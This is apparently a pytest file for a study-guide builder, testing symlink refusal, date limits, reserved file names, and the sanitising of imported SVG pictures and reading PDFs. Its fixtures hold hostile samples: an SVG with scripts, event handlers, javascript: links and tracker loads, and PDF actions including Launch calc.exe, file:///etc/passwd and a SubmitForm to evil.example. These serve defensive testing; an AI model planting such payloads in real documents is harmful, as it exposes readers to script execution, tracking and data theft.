"""Hostile inputs, round three: SVG pictures that carry scripts, links inside the
build and guides folders, a reading PDF's link actions, ordinary reading PDFs
(standard fonts, blank pages, empty-password encryption), dates at the end of
time, and guides named like the catalogue's own files."""

from __future__ import annotations

import io
import shutil
import zlib
from pathlib import Path

import pytest

from studyguide.build.run import Settings, build

from .conftest import build_one, cli_in, write

GUIDE = "---\ntitle: {title}\n{front}---\n\nIntro.\n{body}\n\n## Discussion questions\n\n1. What did the strike win?\n"


def png() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def guide(title: str = "Strike", front: str = "", body: str = "") -> str:
    return GUIDE.format(title=title, front=front, body=body)


def run(*args: str, cwd: Path):
    return cli_in(cwd, *args)


# -- 9: build never writes through a link below the build folder --------------------------------

def test_build_refuses_a_linked_folder_below_the_build_folder(tmp_path):
    write(tmp_path, {"guides/sym.md": guide()})
    public, elsewhere = tmp_path / "public", tmp_path / "elsewhere"
    public.mkdir(), elsewhere.mkdir()
    out = tmp_path / "build"
    (out / "sym").mkdir(parents=True)
    (out / "sym" / "facilitator").symlink_to(public)
    settings = dict(editions=("participant", "facilitator"))
    result = build_one(tmp_path / "guides/sym.md", out, **settings)
    assert [str(e) for e in result.errors] == [f"{out / 'sym' / 'facilitator'}: error: is a symbolic link: "
                                               "studyguide does not write through links"]
    assert list(public.iterdir()) == []
    assert not (out / "sym" / "sym.pdf").exists()  # nothing of the guide written: all or nothing
    shutil.rmtree(out)
    out.mkdir()
    (out / "sym").symlink_to(elsewhere)
    result = build_one(tmp_path / "guides/sym.md", out, **settings)
    assert [str(e) for e in result.errors] == [f"{out / 'sym'}: error: is a symbolic link: studyguide does not write through links"]
    assert list(elsewhere.iterdir()) == []
    # a link where a file goes is replaced, never written through
    (out / "sym").unlink()
    (out / "sym").mkdir()
    target = tmp_path / "victim.pdf"
    target.write_bytes(b"keep")
    (out / "sym" / "sym.pdf").symlink_to(target)
    result = build_one(tmp_path / "guides/sym.md", out, editions=("participant",))
    assert result.ok and target.read_bytes() == b"keep"
    assert not (out / "sym" / "sym.pdf").is_symlink() and (out / "sym" / "sym.pdf").read_bytes().startswith(b"%PDF")


def test_the_build_folder_itself_may_be_a_link(tmp_path):
    write(tmp_path, {"guides/ok.md": guide()})
    (tmp_path / "real").mkdir()
    (tmp_path / "build").symlink_to(tmp_path / "real")
    assert build_one(tmp_path / "guides/ok.md", tmp_path / "build", editions=("participant",)).ok
    assert (tmp_path / "real" / "ok" / "ok.pdf").is_file()


# -- 10: import never writes pictures through a link ---------------------------------------------

def test_import_refuses_a_linked_images_folder(tmp_path):
    page = ('<!doctype html><html lang="en"><head><meta charset="utf-8"><title>The strike</title></head><body>'
            '<article><h1>The strike</h1><p>' + "The workers organised in councils and committees. " * 8 + '</p>'
            '<figure><img src="page_files/ok.png" alt="A picture"><figcaption>Caption</figcaption></figure>'
            '<p>' + "Another paragraph of the article with many words in it. " * 5 + '</p></article></body></html>')
    write(tmp_path, {"page.html": page, "page_files/ok.png": png()})
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "guides" / "strike").mkdir(parents=True)
    (tmp_path / "guides" / "strike" / "images").symlink_to(elsewhere)
    done = run("import", "page.html", "--slug", "strike", "--force", cwd=tmp_path)
    assert done.exit_code == 1
    assert "guides/strike/images: error: is a symbolic link" in done.output
    assert list(elsewhere.iterdir()) == [] and not (tmp_path / "guides/strike/reading.md").exists()
    (tmp_path / "guides" / "strike" / "images").unlink()
    done = run("import", "page.html", "--slug", "strike", "--force", cwd=tmp_path)
    assert done.exit_code == 0, done.output
    assert (tmp_path / "guides/strike/images/ok.png").read_bytes() == png()


# -- 14: dates the calendar cannot compute with are refused at their line -------------------------

@pytest.mark.parametrize("front, line", [
    ('date: 9999-12-31\ntime: "23:00"\nduration: 2h\n', 3),
    ('date: 9999-12-31\n', 3),
    ('date: 0001-01-01\ntime: "00:30"\ntimezone: Asia/Tokyo\n', 3),
    ('sessions:\n  - date: 2026-05-01\n  - date: 9999-12-31\n    time: "23:30"\n', 5),
])
def test_dates_out_of_range_are_refused_at_their_line_by_check_and_build(tmp_path, front, line):
    write(tmp_path, {"guides/far.md": guide("Far", front)})
    checked = run("check", "guides", cwd=tmp_path)
    assert checked.exit_code == 1
    assert f"guides/far.md:{line}: error: " in checked.output and "is out of range" in checked.output
    result = build_one(tmp_path / "guides/far.md", tmp_path / "build", editions=("participant",))
    assert [(e.line, "out of range" in e.message) for e in result.errors] == [(line, True)]


def test_the_last_and_first_dates_taken_make_a_calendar(tmp_path):
    write(tmp_path, {"guides/edge.md": guide("Edge", 'sessions:\n  - date: 9998-12-31\n    time: "23:59"\n    duration: 24h\n'
                                                     '    timezone: Pacific/Kiritimati\n  - date: 1000-01-01\n'
                                                     '    time: "00:00"\n    timezone: Pacific/Pago_Pago\n    duration: 90\n')})
    result = build_one(tmp_path / "guides/edge.md", tmp_path / "build", editions=("participant",))
    assert result.ok, result.errors
    assert b"DTSTART;TZID=Pacific/Kiritimati:99981231T235900" in (tmp_path / "build/edge/edge.ics").read_bytes()


# -- 15: no guide takes the name of a file at the build folder's top ------------------------------

def test_guides_named_like_the_catalogues_files_are_refused_and_the_list_is_complete(tmp_path):
    from studyguide.slugs import reserved

    names = ["feed.xml", "calendar.ics", "Feed.XML", "index.html", "style.css", "CALENDAR.ics"]
    write(tmp_path, {**{f"guides/{n}.md": guide(n) for n in names},
                     "guides/other.md": guide("Other", 'date: 2026-05-01\ntime: "19:00"\n')})
    checked = run("check", "guides", cwd=tmp_path)
    assert checked.exit_code == 1
    for name in names:
        assert f"guides/{name}.md: error: '{name}' is the name of a file the catalogue writes" in checked.output
    out = tmp_path / "build"
    results = build(sorted((tmp_path / "guides").glob("*.md")), Settings(out=out, jobs=1, editions=("participant", "web")))
    assert sorted(r.slug for r in results if r.ok) == ["other"]
    # every file the build folder's top holds is one a guide may not be named after
    top = {p.name for p in out.iterdir() if not p.is_dir()}
    assert {"index.html", "style.css", "feed.xml", "calendar.ics"} <= top and top <= reserved()


def test_a_catalogue_file_that_cannot_be_written_is_named(tmp_path):
    write(tmp_path, {"guides/other.md": guide("Other")})
    out = tmp_path / "build"
    (out / "feed.xml").mkdir(parents=True)  # left by an older studyguide that let a guide take the name
    results = build([tmp_path / "guides/other.md"], Settings(out=out, jobs=1, editions=("participant",)))
    assert [str(e) for r in results for e in r.errors] == [f"{out / 'feed.xml'}: error: cannot write the catalogue: Is a directory"]


# -- 8: SVG pictures lose their scripts and remote loads, and keep their drawing -----------------

HOSTILE_SVG = (
    '<?xml version="1.0"?><?xml-stylesheet href="https://tracker.example/a.css"?>'
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" '
    'onload="alert(1)"><defs><linearGradient id="g"><stop offset="0" stop-color="#c00"/></linearGradient></defs>'
    '<rect width="200" height="100" fill="url(#g)" style="stroke: blue; background: url(https://tracker.example/s)"/>'
    '<image href="https://tracker.example/pixel.png" width="1" height="1"/>'
    '<image xlink:href="//tracker.example/p2.png" width="1" height="1"/>'
    '<script>alert(document.domain)</script><SCRIPT>alert(2)</SCRIPT>'
    '<a href="javascript:alert(1)"><text x="10" y="50" onclick="alert(3)">Map of the strike</text></a>'
    '<a xlink:href=" JavaScript&#58;alert(4)"><circle r="3"/></a>'
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://tracker.example/f"/></foreignObject>'
    '<set attributeName="href" to="javascript:alert(5)"/><animate attributeName="fill" to="red"/>'
    '<use href="https://tracker.example/sprite.svg#a"/><filter id="f"><feImage href="https://tracker.example/i"/></filter>'
    '<style>@import url(https://tracker.example/x.css); @import "//tracker.example/y.css";'
    ' rect { fill: u\\72l(https://tracker.example/z) } text { font-size: 20px; fill: #333 }</style></svg>')
GONE = ("script", "javascript", "tracker", "onload", "onclick", "foreignobject", "iframe", "@import", "animate",
        "<set", "xml-stylesheet", "alert")


def test_svg_pictures_are_cleaned_in_the_web_page_the_epub_and_the_pdf(tmp_path):
    import zipfile

    from .conftest import pdf_text

    write(tmp_path, {"guides/pic/guide.md": guide("Pic", body="\n![A map of the strike](map.svg)\n"),
                     "guides/pic/map.svg": HOSTILE_SVG})
    out = tmp_path / "build"
    result = build_one(tmp_path / "guides/pic/guide.md", out, editions=("participant", "epub", "web"))
    assert result.ok and not result.warnings, (result.errors, result.warnings)
    web = (out / "pic/assets/map.svg").read_bytes().decode()
    with zipfile.ZipFile(out / "pic/pic.epub") as book:
        epub = book.read("EPUB/images/map.svg").decode()
    for copy in (web, epub):
        assert not [word for word in GONE if word in copy.lower()], copy
        assert 'fill="url(#g)"' in copy and "Map of the strike" in copy and "font-size: 20px" in copy
    assert "Map of the strike" in " ".join(pdf_text(out / "pic/pic.pdf"))  # drawn, not left out


@pytest.mark.parametrize("svg, why", [
    (b"<svg xmlns='http://www.w3.org/2000/svg'><rect", "not well-formed XML"),
    (b"<!DOCTYPE svg [<!ENTITY a 'aaaa'>]><svg xmlns='http://www.w3.org/2000/svg'>&a;</svg>", "entities"),
    (b"<html><script>alert(1)</script></html>", "not <svg>"),
])
def test_an_svg_that_cannot_be_read_is_left_out_with_a_reason(tmp_path, svg, why):
    write(tmp_path, {"guides/pic/guide.md": guide("Pic", body="\n![A map of the strike](map.svg)\n"),
                     "guides/pic/map.svg": svg})
    out = tmp_path / "build"
    result = build_one(tmp_path / "guides/pic/guide.md", out, editions=("participant", "web"))
    assert result.ok and not (out / "pic/assets/map.svg").exists()
    messages = [w.message for w in result.warnings]
    assert any("map.svg" in m and why in m for m in messages), messages
    assert "A map of the strike" in (out / "pic/index.html").read_text()  # its alt text instead


# -- 11 and 12: a reading PDF's actions, fonts, blank pages and encryption ------------------------

def reading_pdf(texts: list[str | None], links: list = (), font: str = "/Helvetica", **save) -> bytes:
    """A PDF as other programs write them: one page per text (None: a blank page), a
    standard font named and not embedded, `links` ({action}) as Link annotations on page 1."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name

    pdf = pikepdf.new()
    face = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name(font)))
    for text in texts:
        content = f"BT /F1 14 Tf 72 500 Td ({text}) Tj ET".encode() if text else b""  # on the 595-pt page
        pdf.pages.append(pikepdf.Page(Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 420, 595]),
                                                 Resources=Dictionary(Font=Dictionary(F1=face)),
                                                 Contents=pdf.make_stream(content))))
    annotations = [pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(kind), Rect=Array([72, 72 + 20 * n, 300, 90 + 20 * n]),
                                                **({"A": Dictionary(action)} if action else {})))
                   for n, (kind, action) in enumerate(links)]
    if annotations:
        pdf.pages[0].obj.Annots = Array(annotations)
    buffer = io.BytesIO()
    pdf.save(buffer, **save)
    return buffer.getvalue()


def plain(data: bytes) -> bytes:
    """The PDF with no compression: every object's words searchable."""
    import pikepdf

    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.save(buffer, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    return buffer.getvalue()


READING = 'reading:\n  title: "The leaflet"\n  file: reading.pdf\n  url: https://example.org/leaflet\n'


@pytest.mark.filterwarnings("ignore:This document has 1 form widget")  # pikepdf on our hand-made hostile file
def test_a_reading_pdfs_links_keep_only_web_and_mail_addresses(tmp_path):
    import pikepdf
    from pikepdf import Name, String

    def uri(address):
        return ("/Link", {"/S": Name.URI, "/URI": String(address)})

    keep = ["https://ok.example/a", "mailto:group@example.org", "HTTPS://OK.example/b"]
    drop = ["javascript:alert(1)", " JavaScript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>x</script>",
            "file:///etc/passwd", "relative.html", "//evil.example/x", "vbscript:msgbox"]
    links = [uri(a) for a in keep + drop] + [
        ("/Link", {"/S": Name.JavaScript, "/JS": String("app.alert(2)")}),
        ("/Link", {"/S": Name.Launch, "/F": String("calc.exe")}),
        ("/Link", {"/S": Name.GoToR, "/F": String("other.pdf"), "/D": pikepdf.Array([0, Name.Fit])}),
        ("/Link", {"/S": Name.SubmitForm, "/F": String("https://evil.example/collect")}),
        ("/Link", {"/S": Name.ImportData, "/F": String("data.fdf")}),
        ("/Link", {"/S": Name.URI, "/URI": String("https://ok.example/c"), "/Next": {"/S": Name.JavaScript, "/JS": String("app.alert(3)")}}),
        ("/Widget", {"/S": Name.JavaScript, "/JS": String("app.alert(4)")}),
        ("/FileAttachment", None),
        ("/Text", {"/S": Name.Launch, "/F": String("calc.exe")}),
    ]
    data = reading_pdf(["The strike leaflet", "Second page"], links)
    with pikepdf.open(io.BytesIO(data)) as pdf:  # the document and its page run things too
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=Name.JavaScript, JS=String("app.alert(5)")))
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=Name.JavaScript, JS=String("app.alert(6)")))
        buffer = io.BytesIO()
        pdf.save(buffer)
    write(tmp_path, {"guides/js/guide.md": guide("Js", READING), "guides/js/reading.pdf": buffer.getvalue()})
    out = tmp_path / "build"
    result = build_one(tmp_path / "guides/js/guide.md", out, editions=("participant", "booklet"))
    assert result.ok, result.errors
    text = plain((out / "js/js.pdf").read_bytes())
    for word in (b"JavaScript", b"/Launch", b"/GoToR", b"/SubmitForm", b"/ImportData", b"/OpenAction", b"/AA",
                 b"/Widget", b"/FileAttachment", b"calc.exe", b"alert", b"evil.example", b"passwd", b"relative.html"):
        assert word not in text, word
    with pikepdf.open(out / "js/js.pdf") as pdf:
        found = [str(a.A.URI) for page in pdf.pages for a in page.obj.get("/Annots", []) if "/A" in a and "/URI" in a.A]
    assert sorted(set(found)) == sorted(keep + ["https://ok.example/c", "https://example.org/leaflet"])  # the last: the source line
    assert b"alert" not in plain((out / "js/js-booklet.pdf").read_bytes())


def test_ordinary_reading_pdfs_build_and_check_says_what_build_says(tmp_path):
    import pikepdf

    cases = {
        "helvetica": reading_pdf(["The strike leaflet", "Page two"]),
        "blank": reading_pdf(["The strike leaflet", "Page two", None, "Page four"]),
        "aes": reading_pdf(["The strike leaflet"], encryption=pikepdf.Encryption(user="", owner="owner", R=6)),
        "rc4": reading_pdf(["The strike leaflet"], encryption=pikepdf.Encryption(user="", owner="owner", R=3, aes=False, metadata=False)),
        "locked": reading_pdf(["The strike leaflet"], encryption=pikepdf.Encryption(user="secret", owner="owner", R=6)),
        "arial": reading_pdf(["The strike leaflet"], font="/ArialMT"),
    }
    write(tmp_path, {**{f"guides/{n}/guide.md": guide(n, READING) for n in cases},
                     **{f"guides/{n}/reading.pdf": data for n, data in cases.items()}})
    checked = run("check", "guides", cwd=tmp_path)
    out = tmp_path / "build"
    results = {r.slug: r for r in build(sorted((tmp_path / "guides").glob("*/guide.md")),
                                        Settings(out=out, jobs=1, editions=("participant", "booklet", "press")))}
    said = {slug: [str(d) for d in r.errors + r.warnings] for slug, r in results.items()}
    assert not any("internal error" in line for lines in said.values() for line in lines), said
    assert sorted(s for s, r in results.items() if r.ok) == ["aes", "blank", "helvetica", "rc4"]
    font = ("page 1 uses the font Helvetica without embedding it: the PDFs print it with the viewer's or printer's own; "
            "a print shop may refuse the press PDF")
    for slug in ("helvetica", "blank", "aes", "rc4"):
        assert any(font in line for line in said[slug]) and any(font in line for line in checked.output.splitlines()
                                                                 if f"guides/{slug}/" in line)
    locked = "guides/locked/reading.pdf: error: the PDF is locked with a password: save an unlocked copy"
    arial = "guides/arial/reading.pdf: error: page 1 uses the font ArialMT, which the PDF does not embed"
    for line in (locked, arial):
        assert line in checked.output
        assert any(line.split(": error: ")[1] in said_line for lines in said.values() for said_line in lines)
    assert checked.exit_code == 1
    from .conftest import pdf_text

    pages = pdf_text(out / "blank/blank.pdf")
    assert "Page four" in " ".join(pages) and len((out / "aes/aes-press.pdf").read_bytes()) > 1000
    done = run("impose", "guides/aes/reading.pdf", "aes-booklet.pdf", cwd=tmp_path)
    assert done.exit_code == 0 and (tmp_path / "aes-booklet.pdf").read_bytes().startswith(b"%PDF")
    done = run("impose", "guides/locked/reading.pdf", "locked-booklet.pdf", cwd=tmp_path)
    assert done.exit_code == 1 and done.output.strip().endswith("the PDF is locked with a password: save an unlocked copy")
